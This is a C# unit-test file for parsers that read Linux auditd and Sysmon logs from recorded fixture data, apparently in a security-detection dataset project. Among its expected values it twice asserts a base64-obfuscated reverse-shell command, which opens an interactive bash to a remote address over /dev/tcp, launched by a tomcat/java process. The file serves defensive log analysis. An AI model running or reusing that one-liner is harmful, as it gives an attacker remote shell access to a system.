using Det0131.Datasets.Readers.Linux;
using Det0131.Datasets.Tests.Readers.HostLogs;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Readers.Linux;

/// <summary>Real records; the expected values were read in the records by hand.</summary>
public sealed class AuditdFixtureTests
{
    [Fact]
    public void Import_RawLines_JoinsBySerialAndDecodesArguments()
    {
        var (events, report) = Fixture.Import("msticpy-auditd.log");

        Assert.Equal((16, 2, 12, 4), (report.Total.Read, report.Total.Events, report.Total.Held, report.Total.Ignored));
        var shell = events[0];
        Assert.Equal(("linux.auditd", EventKind.ProcessStart, Platform.Linux, "758"), (shell.Source, shell.Kind, shell.Platform, shell.RecordId));
        Assert.Equal(Fixture.Micros("2019-03-02T00:43:49.885Z"), shell.TimeMicros);
        Assert.Equal(("dash", "/bin/dash", "19203", "1305"), (shell.Process, shell.ProcessPath, shell.ProcessKey, shell.ParentKey));
        Assert.Equal("/bin/sh -c \"iptables -w -t security -C OUTPUT -d 168.63.129.16 -p tcp -m conntrack --ctstate INVALID,NEW -j DROP\"", shell.CommandLine);
        Assert.Equal(("root", UserClass.System, null, null), (shell.User, shell.UserClass, shell.PrivilegeChange, shell.Host));
        Assert.Equal(1, shell.Line);
        Assert.StartsWith("type=SYSCALL msg=audit(1551487429.885:758)", shell.Raw, StringComparison.Ordinal);
        Assert.Contains("type=EXECVE", shell.Raw, StringComparison.Ordinal);

        var sudo = events[1];
        Assert.Equal(("1000", UserClass.Person, "1000>root", "auditctl -l"), (sudo.User, sudo.UserClass, sudo.PrivilegeChange, sudo.CommandLine));
    }

    [Fact]
    public void Import_LinesWithoutEndMarks_AreHandedOutAtTheEnd()
    {
        var (events, report) = Fixture.Import("otrf-auditd.log");

        Assert.Equal(2, report.Total.Events);
        Assert.Equal(["arp -a", "grep -v ^?"], events.Select(found => found.CommandLine));
        Assert.All(events, found => Assert.Equal("29002", found.ParentKey));
    }

    [Fact]
    public void Import_SyslogRows_ReadsAuomsAndSysmonForLinux()
    {
        var (events, report) = Fixture.Import("otrf-linux-syslog-rows.ndjson");

        Assert.Equal((6, 4, 0), (report.Total.Read, report.Total.Events, report.Total.Rejected));
        var shell = events.One("linux.auditd", EventKind.ProcessStart);
        Assert.Equal("bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"", shell.CommandLine);
        Assert.Equal(("ubuntu5", "tomcat", UserClass.Person, "84143"), (shell.Host, shell.User, shell.UserClass, shell.RecordId));

        var start = events.One("linux.sysmon", EventKind.ProcessStart);
        Assert.Equal(("bash", "java", "tomcat"), (start.Process, start.Parent, start.User));
        Assert.Equal("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}", start.CommandLine);
        Assert.Equal(Fixture.Micros("2022-05-11T18:10:21.998Z"), start.TimeMicros);

        var flow = events.One("linux.sysmon", EventKind.NetworkFlow);
        Assert.Equal(("104.46.127.225", 443, "wdavdaemon", HostSide.Source), (flow.DestinationAddress, flow.DestinationPort, flow.Process, flow.HostSide));
        Assert.Equal((UserClass.System, Platform.Linux), (flow.UserClass, flow.Platform));
        Assert.Equal((".log", "java"), (events.One("linux.sysmon", EventKind.FileAccess).FileExtension, events.One("linux.sysmon", EventKind.FileAccess).Process));
    }

    [Theory]
    [InlineData("msticpy-auditd.log")]
    [InlineData("otrf-auditd.log")]
    public void Parse_BrokenLines_NeverThrows(string file) => Mutations.Run(AuditdFormat.Lines, file, seed: 11, rounds: 200);

    [Fact]
    public void Parse_BrokenRows_NeverThrows() => Mutations.Run(AuditdFormat.Json, "otrf-linux-syslog-rows.ndjson", seed: 12, rounds: 150);
}
